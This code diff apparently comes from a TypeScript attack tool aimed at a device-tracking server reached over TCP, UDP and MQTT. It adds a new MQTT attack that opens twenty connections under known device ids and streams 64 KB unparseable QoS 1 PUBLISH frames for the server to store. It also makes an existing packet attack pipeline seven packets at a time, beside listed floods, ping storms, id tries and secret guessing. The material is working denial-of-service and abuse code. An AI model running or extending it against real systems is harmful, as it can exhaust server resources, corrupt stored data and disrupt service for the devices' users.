@@ -22,6 +22,7 @@ export const ATTACKS = {
   'fixes of one span from a known id (TCP)': oneSpan,
   'pings before a login (TCP)': tcpPings,
   'PINGREQ of an open MQTT connection': mqttPings,
+  'frames of 64 KB that cannot be read (MQTT)': unreadable,
   'a flood of datagrams (UDP)': datagrams,
   'tries of ids (TCP)': triedIds,
   'guesses of a secret (MQTT)': guesses,
@@ -41,7 +42,9 @@ async function spans(victim: Victim, cost: Cost, signal: AbortSignal): Promise<v
   await Promise.all(
     victim.known.map((imei) => {
       let n = 0
-      const next = () => packet(255, () => newest - ((n += 1) % 3700) * 2_048_000 + (n % 2000) * 1000)
+      const one = () => packet(255, () => newest - ((n += 1) % 3700) * 2_048_000 + (n % 2000) * 1000)
+      // Several without waiting for an answer.
+      const next = () => Buffer.concat(Array.from({ length: 7 }, one))
       return login(victim, imei, { cost, signal, next })
     }),
   )
@@ -60,6 +63,23 @@ async function tcpPings({ ports }: Victim, cost: Cost, signal: AbortSignal): Pro
 async function mqttPings({ ports }: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
   const pings = Buffer.alloc(65_536, Buffer.of(0xc0, 0x00))
   await pour(ports.mqtt, pings, { cost, signal, perSecond: 1_300_000, first: mqttConnect('900000000000001', '') })
+}
+
+/** Each is kept as it came, since it may be read later. */
+async function unreadable({ known, ports }: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
+  const payload = Buffer.alloc(65_000, '[')
+  await sideBySide(20, signal, async (index) => {
+    const id = known[index % known.length]
+    const frame = mqttPublish(`devices/${id}/fix`, payload)
+    const socket = dial(ports.mqtt, cost)
+    write(socket, mqttConnect(id, '', String(index)), cost)
+    await once(socket, 'data', 1000)
+    while (!signal.aborted && !socket.destroyed) {
+      if (socket.writableLength < 8 * frame.length) write(socket, frame, cost)
+      await sleep(1)
+    }
+    socket.destroy()
+  })
 }
 
 /** 30,000 a second. */
@@ -123,16 +143,23 @@ async function pour(
 }
 
 /** An MQTT 3.1.1 CONNECT with a user name, and a password unless it is ''. */
-function mqttConnect(user: string, password: string): Buffer {
+function mqttConnect(user: string, password: string, client = user): Buffer {
   const flags = password === '' ? 0x82 : 0xc2
   const body = Buffer.concat([
     text('MQTT'),
     Buffer.of(4, flags, 0, 60),
-    text(user),
+    text(client),
     text(user),
     ...(password === '' ? [] : [text(password)]),
   ])
   return Buffer.concat([Buffer.of(0x10, body.length), body])
+}
+
+/** A PUBLISH with QoS 1, longer than 16 KB. */
+function mqttPublish(topic: string, payload: Buffer): Buffer {
+  const body = Buffer.concat([text(topic), Buffer.of(0, 1), payload])
+  const { length } = body
+  return Buffer.concat([Buffer.of(0x32, (length & 0x7f) | 0x80, ((length >> 7) & 0x7f) | 0x80, length >> 14), body])
 }
 
 function text(value: string): Buffer {
